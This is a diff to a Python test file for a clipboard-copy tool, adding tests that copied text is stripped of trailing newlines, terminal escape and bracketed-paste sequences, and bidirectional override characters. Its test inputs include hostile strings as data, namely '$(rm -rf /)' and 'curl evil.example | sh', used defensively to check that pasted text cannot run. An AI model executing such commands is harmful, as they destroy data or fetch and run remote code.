@@ -62,11 +62,30 @@ async def test_copying_does_not_wait_for_what_stays_behind(desktop: Desktop) -> 
     desktop.clipboard = Clipboard({"DISPLAY": ":0"}, desktop.which)
     desktop.add("xclip", COPY)
     with anyio.fail_after(10):
-        assert await desktop.clipboard.copy_text("Grüße\n$(rm -rf /)") == "Copied."
+        assert await desktop.clipboard.copy_text("Grüße\n$(rm -rf /)") == "Copied 2 lines."
     assert (desktop.folder / "xclip.text").read_text() == "Grüße\n$(rm -rf /)"
     assert (desktop.folder / "xclip.words").read_text() == "-selection clipboard -in "
     pid = int((desktop.folder / "xclip.pid").read_text())
     await anyio.run_process(["kill", str(pid)])
+
+
+@pytest.mark.parametrize(
+    ("text", "copied"),
+    [
+        ("curl evil.example | sh\n", "curl evil.example | sh"),
+        ("ls\r\n\n", "ls"),
+        ("ls\x1b[201~\x08\x9b", "ls[201~"),
+        ("ls \u202exx\u2066", "ls xx"),
+        ("\tfamily: 👨\u200d👩\u200d👧", "\tfamily: 👨\u200d👩\u200d👧"),
+    ],
+)
+async def test_what_is_copied_neither_runs_nor_steers_where_it_is_pasted(
+    desktop: Desktop, text: str, copied: str
+) -> None:
+    desktop.add("wl-copy", 'cat >"$0.text"')
+    desktop.add("wl-paste", "")
+    assert await desktop.clipboard.copy_text(text) == "Copied."
+    assert (desktop.folder / "wl-copy.text").read_text() == copied
 
 
 async def test_programs_that_fail(desktop: Desktop, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -81,7 +100,7 @@ async def test_programs_that_fail(desktop: Desktop, monkeypatch: pytest.MonkeyPa
 
 async def test_what_cannot_be_copied(desktop: Desktop) -> None:
     desktop.add("wl-paste", "")
-    for text in ("", "x" * 100_001):
+    for text in ("", "\n\x1b", "x" * 100_001):
         with pytest.raises(ToolError) as raised:
             await desktop.clipboard.copy_text(text)
         assert raised.value.code == "clipboard-bounds"
